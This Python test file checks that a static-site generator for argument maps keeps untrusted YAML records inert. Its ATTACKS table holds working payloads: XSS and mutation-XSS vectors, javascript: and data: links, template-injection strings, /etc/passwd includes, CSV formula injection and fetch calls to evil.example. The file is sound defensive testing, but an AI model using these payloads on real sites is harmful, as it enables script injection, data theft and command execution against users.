"""A pull request is untrusted: whatever its records say, nothing of it runs, loads or leaves its place.

The pages are opened in a real browser with the content security policy switched off, so that what is tested is that
the texts are inert by themselves; the policy is a second wall behind that.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET

import pytest

import argmap
from argmap.interchange import exported
from argmap.site.build import build
from argmap.yamlio import parse
from tests.knowledge_bases import BREAD, write
from tests.site.conftest import served

RUN = "window.pwned=1;fetch('https://evil.example/');alert(1)"
ATTACKS = {
    "script": f"<script>{RUN}</script>",
    "split-script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image": f'<img src=x onerror="{RUN}">',
    "svg": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "foreign": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "template": f"<template><script>{RUN}</script></template><details open ontoggle={RUN}>",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data="javascript:{RUN}"></object>',
    "base": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><button autofocus formaction="javascript:pwned=1">x</button></form>',
    "style": "<style>body{background:url(https://evil.example/x)}</style><link rel=stylesheet href=https://evil.example/>",
    "closing": f"</p></section></main></script></style></title></textarea><script>{RUN}</script>",
    "comment": f"--><script>{RUN}</script><!--",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "link": f"[x](javascript:{RUN}) [x](JaVaScRiPt:{RUN}) [x](java&#115;cript:{RUN}) [x](&#1;javascript:{RUN})",
    "other-schemes": "[x](data:text/html,<script>pwned=1</script>) [x](vbscript:x) [x](file:///etc/passwd) <javascript:pwned=1>",
    "reference": f"[x][y] [z]\n\n[y]: javascript:{RUN}\n[z]: data:text/html;base64,PHNjcmlwdD4=",
    "title": f'[x](https://example.org "\\" onmouseover={RUN} x=\\"") [x](https://example.org "[[a|b]]")',
    "address": f'<https://example.org/"onmouseover="{RUN}> https://example.org/"onclick="{RUN}',
    "relative": '[x](../../../etc/passwd) [x](/etc/passwd) [x](//evil.example/) [x](?q=[[a]]) [x](#" onclick=pwned=1)',
    "picture": f"![x](https://evil.example/track.png) ![x](javascript:{RUN}) ![x](x onerror={RUN})",
    "attributes": f'para {{: onclick="{RUN}" }} **x**{{: style=position:fixed onclick={RUN} }}\n{{: onmouseover={RUN} }}',
    "wikilink": f'[[a|<img src=x onerror={RUN}>]] [["><script>{RUN}</script>]] [[a]](javascript:{RUN})',
    "template-language": "{{ config }} {{ self.__init__.__globals__ }} {% for x in range(9) %}pwned{% endfor %} ${7*7}",
    "include": '--8<-- "/etc/passwd" {!/etc/passwd!} [[include:/etc/passwd]]\n--8<--\n/etc/passwd\n--8<--',
    "fence": f'```mermaid\ngraph TD; a["<img src=x onerror={RUN}>"]\n```\n~~~html\n<script>{RUN}</script>\n~~~',
    "json": f"</script><script>{RUN}</script> ]]> \\u003c/script\\u003e",
    "formula": '=HYPERLINK("https://evil.example/","x") +cmd|\' /C calc\'!A0 @SUM(1+9) -2+3',
}  # fmt: skip
ADDRESS = json.dumps(f"javascript:{RUN}//")
ONE_LINE = {name: " ".join(text.split()) for name, text in ATTACKS.items()}


def records():
    """For each attack a record of each kind that holds it in every text there is."""
    files = {}
    for name, text in ATTACKS.items():
        t, line = json.dumps(text), json.dumps(f"{ONE_LINE[name]}"[:290])
        word = json.dumps(ONE_LINE[name][:60])
        files |= {
            f"bread/{name}-claim.yaml": f"claim: {line}\nnote: {t}\nprior: {{value: 0.4, because: {t}}}\npositions:\n"
            f"  - {{person: {name}-person, stance: accepts, hedge: {line}}}\n",
            f"bread/{name}-evidence.yaml": f"evidence: {line}\nnote: {t}\ntype: result\nsource: {name}-source\n"
            f"supports:\n  - {{to: {name}-claim, because: {t}}}\nqualifies:\n  - {{to: a, because: {t}}}\n",
            f"bread/{name}-rival.yaml": f"claim: {line}\nattacks:\n  - {{to: {name}-claim, because: {t}}}\n"
            f"undercuts:\n  - {{to: {name}-evidence > {name}-claim, because: {t}}}\n",
            f"bread/{name}-gone.yaml": f"claim: {line}\nretracted: {{date: 2026-01-02, because: {t}}}\n",
            f"bread/{name}-crux.yaml": f"crux: {line}\nnote: {t}\nturns_on: {name}-claim\n",
            f"bread/{name}-experiment.yaml": f"experiment: {line}\nnote: {t}\ntests:\n  - claim: {name}-claim\n    outcomes:\n"
            f"      {word}: [0.8, 0.3]\n      other: [0.2, 0.7]\n    because: {t}\nstatus: done\nprotocol: {t}\n"
            f"decision_rule: {t}\nstop_rule: {t}\ncompute: {line}\n"
            f"result: {{outcome: {word}, date: 2026-01-02, summary: {t}}}\n",
            f"people/{name}-person.yaml": f"person: {line}\nhandle: {line}\nurl: {ADDRESS}\nnote: {t}\n",
            f"sources/{name}-source.yaml": f"source: {line}\ntype: paper\nauthors: [{line}]\nvenue: {line}\nurl: {ADDRESS}\nnote: {t}\n",
            f"{name}/{name}.yaml": f"topic: {line}\nsummary: {t}\nessay: {t}\n",
            f"{name}/{name}-there.yaml": f"claim: {line}\nsupports: [{name}-claim]\n",
        }  # fmt: skip
    whole = json.dumps(" ".join(ONE_LINE.values()))
    settings = (
        f"knowledge_base: {json.dumps(ONE_LINE['closing'])}\nsummary: {whole}\nlicence: {whole}\n"
        f"repository: {ADDRESS}\n"
    )
    files |= {"bread/a.yaml": "claim: A.\n", "knowledge-base.yaml": settings}
    return files


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A project full of attacks."""
    folder = tmp_path_factory.mktemp("hostile")
    write(folder / "claims", {**BREAD, **records()})
    config = "site_name: Hostile\nsite_url: https://example.org/\ntheme: {name: material, font: false}\nplugins: [search, argmap]\n"
    write(folder, {"mkdocs.yml": config, "docs/index.md": "# Home\n"})
    return folder


@pytest.fixture(scope="module")
def built(hostile):
    """The site as it would be if no check refused anything."""
    before = {path: path.read_bytes() for path in hostile.rglob("*") if path.is_file()}
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr("argmap.loader.run_checks", lambda *_, **__: [])
        patched.setattr("argmap.schema._Problems.add", lambda *_, **__: None)
        patched.setattr("argmap.site.assemble._refuse_dead", lambda *_: None)
        site = build(hostile / "mkdocs.yml")
    editions = (site, site.with_name(f".{site.name}.argmap"))
    after = {p for p in hostile.rglob("*") if p.is_file() and not set(editions) & set(p.parents)}
    assert after == before.keys()
    assert all(path.read_bytes() == content for path, content in before.items())
    return site


def watching(context, address):
    """A page that notes all that goes wrong on it."""
    page = context.new_page()
    page.problems = []
    page.on("dialog", lambda one: (page.problems.append(one.message), one.dismiss()))
    page.on("request", lambda r: r.url.startswith((address, "data:", "blob:")) or page.problems.append(r.url))  # fmt: skip
    page.address = address
    return page


@pytest.fixture(scope="module")
def watched(browser, built):
    """A page without a policy."""
    with served(built) as address:
        context = browser.new_context(bypass_csp=True)
        yield watching(context, address)
        context.close()


@pytest.fixture(scope="module")
def bare(browser, built):
    """A page without a policy, without the theme's scripts and styles: what the HTML does by itself, and fast."""
    with served(built) as address:
        context = browser.new_context(bypass_csp=True)
        context.route(f"{address}assets/**", lambda route: route.abort())
        yield watching(context, address)
        context.close()


# What the browser's own parser has made of a page: anything that could run, load or send.
LOOK = """() => {
  const found = [];
  const schemes = ["http:", "https:", "mailto:"];
  for (const one of document.querySelectorAll("*")) {
    const tag = one.localName;
    if (["iframe", "object", "embed", "base", "math", "frame", "video", "audio"].includes(tag)) found.push(tag);
    if (tag === "meta" && /refresh/i.test(one.httpEquiv)) found.push("refresh");
    if (tag === "form" && new URL(one.action).origin !== location.origin) found.push(one.action);
    if (tag === "script" && !one.src && !/json/.test(one.type) && /pwned/.test(one.text)) found.push(one.text);
    for (const {name, value} of one.attributes) {
      if (/^on/i.test(name)) found.push(`${tag} ${name}`);
      if (["href", "src", "action", "formaction", "xlink:href", "data", "srcset"].includes(name)) {
        const scheme = new URL(value, location.href).protocol;
        if (!schemes.includes(scheme) && !(tag === "img" || tag === "link" || tag === "use")) found.push(`${tag} ${value}`);
        if (tag !== "a" && /evil/.test(value)) found.push(`${tag} ${value}`);
      }
      if (name === "style" && /evil|fixed/.test(value)) found.push(value);
    }
  }
  for (const style of document.querySelectorAll("style")) if (/evil/.test(style.textContent)) found.push("style");
  if (window.pwned) found.push("it ran");
  return found;
}"""


def quiet(page, url):
    page.goto(page.address + url, wait_until="domcontentloaded")
    return [*page.evaluate(LOOK), *page.problems]


def test_the_checks_refuse_what_a_browser_would_act_on(hostile):
    """The first wall: none of these would reach a page."""
    kb = argmap.load(hostile / "claims")
    errors = {one.span.file for one in kb.diagnostics if one.severity.value == "error"}
    for name in (
        "script",
        "image",
        "svg",
        "frame",
        "base",
        "form",
        "style",
        "closing",
        "link",
        "other-schemes",
        "reference",
    ):
        assert f"bread/{name}-claim.yaml" in errors, name


@pytest.mark.parametrize("unseen", ["\0", "\u202e", "\u2066", "\u200b"])
def test_no_field_of_any_record_may_hold_what_nobody_sees(unseen):
    """Each text of each kind of record in its turn, as it is and as an escape."""
    tried = 0
    for name, record in records().items():
        if not name.partition("/")[2].startswith("script"):
            continue
        before, *rest = record.split("pwned=1")
        for number in range(len(rest)):
            for written in (unseen, json.dumps(unseen)[1:-1]):
                marks = ["pwned=1"] * len(rest)
                marks[number] = written
                text = before + "".join(map("".join, zip(marks, rest, strict=True)))
                (found,) = parse(text, name).diagnostics
                assert (found.code, found.span.line) == ("control-character", line_of(text, written)), text  # fmt: skip
                tried += 1
    assert tried > 60


def line_of(text, words):
    return text[: text.index(words)].count("\n") + 1


KINDS = ("claim", "experiment", "person", "source")
"""Those whose pages hold what the others have too: cards of reasons and objections, notes, names."""


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_or_loads_on_any_page_that_holds(bare, built, attack):
    pages = [f"{attack}-{kind}/" for kind in KINDS] + [f"{attack}/"]
    assert {url: found for url in pages if (found := quiet(bare, url))} == {}
    assert (built / f"{attack}-claim" / "index.html").is_file()


def test_nothing_runs_on_the_listings(watched, built):
    pages = [
        path.parent.relative_to(built).as_posix().removeprefix(".") + "/"
        for path in built.rglob("index.html")
        if not path.parent.name.startswith(tuple(ATTACKS))
    ]
    assert len(pages) > 30
    assert {url: found for url in pages if (found := quiet(watched, url.lstrip("/")))} == {}


def test_nothing_runs_in_the_search(watched):
    watched.goto(watched.address)
    watched.wait_for_load_state("networkidle")
    for words in ("para", "src", "config"):
        watched.locator("input[name=query]").click()
        watched.locator("input[name=query]").press_sequentially(words, delay=30)
        watched.locator(".md-search-result__link").first.wait_for()
        assert watched.evaluate(LOOK) == watched.problems == []
        watched.locator("input[name=query]").fill("")


def test_nothing_runs_in_a_preview(watched):
    watched.goto(f"{watched.address}image-there/")
    watched.wait_for_load_state("networkidle")
    watched.locator("article a.am-link[href='../image-claim/']").first.hover()
    watched.locator(".am-preview").wait_for()
    assert watched.evaluate(LOOK) == watched.problems == []


@pytest.mark.parametrize(
    "state",
    [
        f"claim=<img src=x onerror={RUN}>",
        f"claim=image-claim&set=image-evidence:<svg onload={RUN}>",
        f'claim=image-claim&view="><script>{RUN}</script>',
        "claim=__proto__&set=constructor:0.5,__proto__:1&view=toString",
        f"claim=image-claim&set={'a:0.5,' * 5000}",
    ],
)  # fmt: skip
def test_nothing_runs_from_a_link_to_the_what_if_page(watched, state):
    watched.goto("about:blank")
    watched.goto(f"{watched.address}what-if/#{state}")
    watched.wait_for_load_state("networkidle")
    assert watched.evaluate(LOOK) == watched.problems == []


def test_no_secret_of_the_machine_is_on_the_site(built):
    for path in built.rglob("*"):
        if path.is_file():
            assert b"root:x:0:0" not in path.read_bytes(), path


def test_data_beside_the_pages_is_whole(built, hostile):
    """JSON is JSON, XML is XML, and the words are what the records say."""
    kb = {
        one["id"]: one["record"] for one in json.loads((built / "kb.json").read_bytes())["records"]
    }
    assert kb["closing-claim"]["claim"] == ONE_LINE["closing"][:290]
    ET.parse(built / "sitemap.xml")
    for page in built.rglob("index.html"):
        text = page.read_text("utf-8")
        for block in re.findall(
            r'<script type="application/ld\+json">(.*?)</script>', text, re.DOTALL
        ):
            json.loads(block)
    for path in built.rglob("*.svg"):
        ET.parse(path)


def test_exports_of_hostile_words_are_well_formed(hostile, tmp_path):
    kb = argmap.load(hostile / "claims")
    ET.fromstring(exported(kb, "graphml").files[""])
    json.loads(exported(kb, "jsonld").files[""])
    argmap.export(kb, tmp_path / "map.json", format="aif")
    again = argmap.read(tmp_path / "map.json", format="aif")
    assert len(again) >= len(ATTACKS)


def test_a_table_holds_no_formula(hostile):
    """A spreadsheet would work out what begins with one of these."""
    for text in exported(argmap.load(hostile / "claims"), "csv").files.values():
        for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))):
            assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
